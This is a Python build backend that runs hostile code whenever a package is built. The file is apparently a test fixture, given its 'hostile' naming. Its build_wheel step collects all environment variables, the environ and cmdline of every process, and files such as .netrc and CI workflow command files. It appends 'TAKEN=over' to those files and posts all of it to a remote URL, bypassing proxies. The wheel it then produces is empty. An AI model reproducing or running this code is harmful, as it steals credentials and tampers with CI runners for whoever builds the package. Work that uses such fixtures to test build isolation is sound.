"""A build backend that sends home what it can read, and writes to whatever steers the job."""

import json
import os
import urllib.request
import zipfile

HOME = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "home.txt")).read()


def read(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 16).decode("latin-1")
    except OSError:
        return ""


def overwrite(path):
    try:
        with open(path, "a") as stream:
            stream.write("\nTAKEN=over\n")
    except OSError:
        return False
    return True


def loot():
    processes = [read("/proc/%s/%s" % (pid, name)) for pid in os.listdir("/proc") if pid.isdigit() for name in ("environ", "cmdline")]
    files, written = [], []
    for top in ("/tmp", "/root", "/home", os.getcwd()):
        for directory, _, names in os.walk(top):
            for name in names:
                path = os.path.join(directory, name)
                if "hostile" in path or name not in ("config", "event.json", "envs.txt", "pathcmd.txt", "outputcmd.txt", "SUMMARY.md", ".netrc"):
                    continue
                files.append(read(path))
                if overwrite(path):
                    written.append(path)
    return {"environment": dict(os.environ), "processes": processes, "files": files, "written": written}


def build_wheel(directory, config_settings=None, metadata_directory=None):
    body = json.dumps(loot()).encode()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        opener.open(urllib.request.Request(HOME, body), timeout=20).read()
    except OSError:
        pass  # No way home, either.
    name = "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("hostile.py", "")
        wheel.writestr("hostile-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n")
        wheel.writestr("hostile-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("hostile-1.0.dist-info/RECORD", "hostile.py,,\nhostile-1.0.dist-info/METADATA,,\nhostile-1.0.dist-info/WHEEL,,\nhostile-1.0.dist-info/RECORD,,\n")
    return name
